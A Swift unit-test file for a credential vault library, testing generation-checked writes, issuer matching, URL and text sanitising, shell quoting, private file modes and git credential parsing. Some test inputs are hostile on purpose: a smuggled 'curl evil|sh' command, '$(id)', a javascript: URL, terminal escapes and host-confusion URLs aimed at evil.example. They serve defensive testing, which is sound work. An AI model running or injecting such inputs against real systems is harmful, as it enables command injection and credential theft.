import Foundation
import TokenVaultTestSupport
import XCTest

@testable import TokenVaultKit

/// The library's side of the second hardening round (docs/security.md).
final class HardeningUnitTests: XCTestCase {
    var dir: String!
    override func setUp() { dir = NSTemporaryDirectory() + "tv-hard-" + UUID().uuidString.prefix(8) }
    override func tearDown() { try? FileManager.default.removeItem(atPath: dir) }

    let id = CredentialID(service: try! ServiceKey(parsing: "api.example.com"))

    func record(_ token: String, generation: Int64) -> Credential {
        var c = Credential(
            service: id.service, type: .oauth2, provider: "p", accessToken: token, refreshToken: "rt-" + token,
            updatedAt: 1)
        c.generation = generation
        return c
    }

    // MARK: Exact-record writes

    func testAWriteComputedFromAReadNeverLandsOnAnotherRecordWithTheSameGeneration() throws {
        let store = MemoryStore()
        let vault = CredentialVault(store: store, runtimeDirectory: dir)
        let read = record("old", generation: 5)
        try store.save(read)
        // Deleted and made again meanwhile, by a writer that happened to number it alike.
        _ = try store.delete(id)
        try store.save(record("new", generation: 5))
        XCTAssertNil(try vault.write(record("renewed", generation: 5), if: .computed(from: read)))
        XCTAssertEqual(try store.load(id)?.accessToken, "new")
        XCTAssertFalse(try vault.delete(id, if: .computed(from: read)))
        // The record that was read is still the one stored: the write lands, as the next generation.
        let current = try XCTUnwrap(store.load(id))
        let written = try XCTUnwrap(vault.write(record("renewed", generation: 5), if: .computed(from: current)))
        XCTAssertEqual(written.generation, 6)
        XCTAssertEqual(try store.load(id)?.accessToken, "renewed")
    }

    func testASpoolEntryIsWrittenOnlyOverTheRecordItWasComputedFrom() throws {
        let store = MemoryStore()
        let read = record("old", generation: 7)
        try store.save(read)
        var vault = CredentialVault(store: store, runtimeDirectory: dir)
        XCTAssertTrue(vault.keepInSpool(record("renewed", generation: 7), computedFrom: .computed(from: read)))
        XCTAssertEqual(try vault.load(id)?.accessToken, "renewed", "unchanged since: written")
        XCTAssertTrue(vault.notices.joined().contains("wrote the record"))
        // Another spool entry, then the record changes by one field: dropped, with a notice.
        let now = try XCTUnwrap(store.load(id))
        vault = CredentialVault(store: store, runtimeDirectory: dir)
        XCTAssertTrue(
            vault.keepInSpool(record("again", generation: now.generation), computedFrom: .computed(from: now)))
        var edited = now
        edited.scope = "other"
        try store.save(edited)
        XCTAssertEqual(try vault.load(id)?.accessToken, "renewed")
        XCTAssertTrue(vault.notices.joined().contains("dropped"), vault.notices.joined())
        XCTAssertFalse(vault.notices.joined().contains("rt-again"), "never the refresh token")
        XCTAssertFalse(vault.spool.exists(id))
        // An entry computed from nothing lands only while nothing is stored.
        XCTAssertTrue(vault.keepInSpool(record("first", generation: 0), computedFrom: .computed(from: nil)))
        XCTAssertEqual(try vault.load(id)?.accessToken, "renewed")
        // An entry of an older version, which says only a generation: dropped.
        try FileManager.default.createDirectory(atPath: dir + "/spool", withIntermediateDirectories: true)
        let legacy =
            #"{"record":"{\"access_token\":\"legacy\",\"type\":\"oauth2\"}","read_generation":\#(now.generation)}"#
        try legacy.write(
            toFile: dir + "/spool/" + CredentialVault.fileName(id) + ".json", atomically: true, encoding: .utf8)
        vault = CredentialVault(store: store, runtimeDirectory: dir)
        XCTAssertEqual(try vault.load(id)?.accessToken, "renewed")
        XCTAssertTrue(vault.notices.joined().contains("dropped"))
    }

    func testANewRecordNeverTakesTheNumberOfOneDeletedBeforeIt() throws {
        let store = MemoryStore()
        let vault = CredentialVault(store: store, runtimeDirectory: dir)
        let first = try XCTUnwrap(vault.write(record("a", generation: 0)))
        XCTAssertGreaterThan(first.generation, 1_700_000_000_000_000, "starts at the time in microseconds")
        XCTAssertEqual(try vault.write(record("b", generation: 0))?.generation, first.generation + 1)
        XCTAssertTrue(try vault.delete(id))
        let again = try XCTUnwrap(vault.write(record("c", generation: 0)))
        XCTAssertGreaterThan(again.generation, first.generation + 1)
    }

    // MARK: Issuers

    func testTheTenantPlaceholderIsExactlyOnePathSegment() {
        let entra = "https://login.example/{tenantid}/v2.0"
        XCTAssertTrue(Discovery.issuerMatches(entra, configured: "https://login.example/common/v2.0"))
        XCTAssertTrue(
            Discovery.issuerMatches("https://login.example/{tenantid}", configured: "https://login.example/t1"))
        for bad in [
            "https://login.example/../v2.0", "https://login.example/./v2.0", "https://login.example/a@b/v2.0",
            "https://login.example/a b/v2.0", "https://login.example/a/b/v2.0",
        ] {
            XCTAssertFalse(Discovery.issuerMatches(entra, configured: bad), bad)
        }
        // Never the host, never part of a segment.
        XCTAssertFalse(Discovery.issuerMatches("https://{tenantid}/v2.0", configured: "https://evil.example/v2.0"))
        XCTAssertFalse(
            Discovery.issuerMatches(
                "https://{tenantid}.login.example/v2.0", configured: "https://evil.example/x.login.example/v2.0"))
        XCTAssertFalse(
            Discovery.issuerMatches(
                "https://login.example{tenantid}/v2.0", configured: "https://login.example.evil.example/v2.0"))
        XCTAssertFalse(
            Discovery.issuerMatches(
                "https://login.example/t-{tenantid}/v2.0", configured: "https://login.example/t-x/v2.0"))
    }

    func testADerivedNameKeepsThePortAndThePath() {
        XCTAssertEqual(DiscoveredProviders.name(for: "http://127.0.0.1:18080/iss"), "127-0-0-1-18080-iss")
        XCTAssertNotEqual(
            DiscoveredProviders.name(for: "http://127.0.0.1:18080/iss"),
            DiscoveredProviders.name(for: "http://127.0.0.1:18081/iss"))
        XCTAssertEqual(
            DiscoveredProviders.name(for: "https://idp.example.com/realms/ops"), "idp-example-com-realms-ops")
        // Two issuers that read alike: the second is told apart by a hash of its issuer.
        var config = Config()
        config.providers["a-b-example"] = {
            var t = ProviderConfig()
            t.issuer = "https://a.b.example"
            t.client_id = "c"
            return t
        }()
        config.discoveredProviders = ["a-b-example"]
        XCTAssertEqual(
            try DiscoveredProviders.choose(given: nil, issuer: "https://a.b.example", clientID: "c", config: config),
            "a-b-example")
        let other = try? DiscoveredProviders.choose(
            given: nil, issuer: "https://a-b.example", clientID: "c", config: config)
        XCTAssertNotNil(other)
        XCTAssertNotEqual(other, "a-b-example")
        XCTAssertThrowsError(
            try DiscoveredProviders.choose(
                given: "a-b-example", issuer: "https://a-b.example", clientID: "c", config: config)
        ) {
            XCTAssertEqual(($0 as? TokenVaultError)?.exitCode, 64)
        }
    }

    func testACredentialOfAnotherIssuerIsNeverSentToThisOne() throws {
        var config = Config()
        config.providers["p"] = {
            var t = ProviderConfig()
            t.token_url = "https://idp.example/token"
            t.client_id = "c"
            return t
        }()
        let p = try OAuth2Provider.resolve("p", config: config, configPath: "config.toml")
        XCTAssertEqual(p.issuedBy, "https://idp.example")
        var c = p.issued(record("a", generation: 1), previous: nil, now: 1)
        XCTAssertEqual(c.issuer, "https://idp.example")
        XCTAssertNoThrow(try p.checkIssued(c))
        c.issuer = "https://other.example"
        XCTAssertThrowsError(try p.checkIssued(c)) { XCTAssertEqual(($0 as? TokenVaultError)?.exitCode, 78) }
        XCTAssertThrowsError(try Revocation.request(for: c, provider: p))
        c.issuer = nil
        XCTAssertNoThrow(try p.checkIssued(c), "a record from before the issuer was kept is trusted once")
    }

    // MARK: Text and files

    func testURLsFromOutsideAreWrittenOutAgainOrRefused() {
        XCTAssertEqual(OutsideText.url("HTTPS://Login.Example/a?b=c#d"), "https://login.example/a?b=c#d")
        XCTAssertEqual(
            OutsideText.url("https://example.com/device\u{202E}/lave"), "https://example.com/device%E2%80%AE/lave")
        XCTAssertEqual(
            OutsideText.url("https://example.com/x?code=1\u{2028}x"), "https://example.com/x?code=1%E2%80%A8x")
        XCTAssertEqual(OutsideText.url("http://[::1]:8080/cb"), "http://[::1]:8080/cb")
        XCTAssertEqual(OutsideText.url("https://idp.example:8443"), "https://idp.example:8443")
        XCTAssertEqual(
            OutsideText.url("https://idp.example/a%20b?x=%2F"), "https://idp.example/a%20b?x=%2F",
            "encoding kept as sent")
        for bad in [
            "https://example.com/\u{1B}[2J", "https://bank.example@evil.example/", "javascript:alert(1)",
            "https://exa\u{202E}mple.com/",
            "https:///path", "https://example.com/a b", "ftp://example.com/", "https://example.com/\u{85}",
        ] {
            XCTAssertNil(OutsideText.url(bad), bad.debugDescription)
        }
        XCTAssertEqual(OutsideText.line("a\u{1B}[2Jb\u{2028}c\u{202E}d\u{9B}e"), "a [2Jb c d e")
    }

    func testHintsShowValuesAsShellWords() {
        XCTAssertEqual(ShellWord.word("api.example.com:8443"), "api.example.com:8443")
        XCTAssertEqual(ShellWord.word("x;curl evil|sh;#"), "'x;curl evil|sh;#'")
        XCTAssertEqual(ShellWord.word("it's"), #"'it'\''s'"#)
        XCTAssertEqual(ShellWord.word(""), "''")
        XCTAssertEqual(ShellWord.word("$(id)"), "'$(id)'")
    }

    func testFilesAreCreatedPrivateUnderAnyUmask() throws {
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let old = umask(0)
        defer { umask(old) }
        let (fd, temp) = try XCTUnwrap(AtomicFile.createTemporary(for: dir + "/providers.toml"))
        var st = stat()
        XCTAssertEqual(fstat(fd, &st), 0)
        XCTAssertEqual(st.st_mode & 0o777, 0o600, "0600 from the first instant")
        close(fd)
        unlink(temp)
        try AtomicFile.replace(dir + "/providers.toml", with: Array("x = 1\n".utf8), what: "test")
        XCTAssertEqual(stat(dir + "/providers.toml", &st), 0)
        XCTAssertEqual(st.st_mode & 0o777, 0o600)
        XCTAssertEqual(
            try FileManager.default.contentsOfDirectory(atPath: dir), ["providers.toml"], "no temporary left")
    }

    func testGitURLsAreSplitAsGitSplitsThem() throws {
        func host(_ url: String) throws -> String? { try GitCredentialRequest.parse(Array("url=\(url)\n\n".utf8)).host }
        XCTAssertEqual(try host("https://evil.example?@github.com/x"), "evil.example")
        XCTAssertEqual(try host("https://evil.example#@github.com/x"), "evil.example")
        XCTAssertEqual(try host("https://user@github.com/x"), "github.com")
        XCTAssertEqual(try host("https://user:pw@github.com:8443/x"), "github.com:8443")
        let r = try GitCredentialRequest.parse(Array("url=https://a@github.com/o/r.git?x#y\nhost=gitlab.com\n\n".utf8))
        XCTAssertEqual(r.host, "gitlab.com", "git's own host line wins")
        XCTAssertEqual(r.fields["path"], "o/r.git?x#y")
        XCTAssertEqual(r.username, "a")
    }

    func testAbsurdNumbersInAStoredRecordAreRefusedNotACrash() {
        for bad in [
            #""expires_at":-9223372036854775808"#, #""expires_at":9223372036854775807"#, #""updated_at":-1"#,
            #""refresh_expires_at":-9223372036854775807"#, #""generation":-5"#, #""generation":9223372036854775807"#,
        ] {
            let record = Data(#"{"access_token":"a","type":"oauth2",\#(bad)}"#.utf8)
            XCTAssertThrowsError(try Credential.fromRecord(record, id: id), bad) {
                XCTAssertEqual(($0 as? TokenVaultError)?.exitCode, 65, bad)
            }
        }
        XCTAssertNoThrow(
            try Credential.fromRecord(
                Data(#"{"access_token":"a","expires_at":1,"generation":1795447082573883}"#.utf8), id: id))
    }

    func testSuggestionsAreTheClosestNameWhenItIsClose() {
        XCTAssertEqual(Suggestion.distance("gte", "get"), 1, "a swapped pair is one edit")
        XCTAssertEqual(Suggestion.distance("kitten", "sitting"), 3)
        let table: [(String, [String], String?)] = [
            ("gte", ["get", "set", "login"], "get"),
            ("defualt", ["default", "work"], "default"),
            ("client_secert", ["client_id", "client_secret", "client_secret_file"], "client_secret"),
            ("yaml", ["raw", "json", "header", "env"], nil),
            ("x", ["y", "z"], "y"),
            ("api.exmaple.com", ["api.example.com", "api.other.org"], "api.example.com"),
            ("github", ["github"], nil),
        ]
        for (word, candidates, expected) in table {
            XCTAssertEqual(Suggestion.closest(to: word, in: candidates), expected, word)
        }
        XCTAssertEqual(
            Suggestion.text(for: "jsno", in: ["raw", "json"], listName: "one of"),
            "did you mean json? one of: raw, json")
        XCTAssertEqual(Suggestion.text(for: "yaml", in: ["raw", "json"], listName: "one of"), "one of: raw, json")
    }

    /// The records the agent decoded are kept, in the cache it owns, to
    /// decode each once; it drops them at `lock` and when the key expires
    /// (docs/security.md). A command keeps none.
    func testDecodedRecordsAreForgottenOnDemand() throws {
        let id = CredentialID(service: try ServiceKey(parsing: "api.decoded.example"))
        let record = Data(#"{"access_token":"a1","refresh_token":"r-decoded"}"#.utf8)
        let decoded = DecodedRecords()
        XCTAssertEqual(try Credential.fromRecord(record, id: id).refreshToken, "r-decoded")
        XCTAssertTrue(decoded.isEmpty, "a command's decoding keeps nothing")
        XCTAssertEqual(try Credential.fromRecord(record, id: id, decoded: decoded).refreshToken, "r-decoded")
        XCTAssertFalse(decoded.isEmpty)
        decoded.forget()
        XCTAssertTrue(decoded.isEmpty)
        XCTAssertEqual(
            try Credential.fromRecord(record, id: id, decoded: decoded).refreshToken, "r-decoded", "decoded again")
        // Other bytes for the same id are decoded, not answered from what was kept.
        let changed = Data(#"{"access_token":"a2","refresh_token":"r-changed"}"#.utf8)
        XCTAssertEqual(try Credential.fromRecord(changed, id: id, decoded: decoded).refreshToken, "r-changed")
    }
}
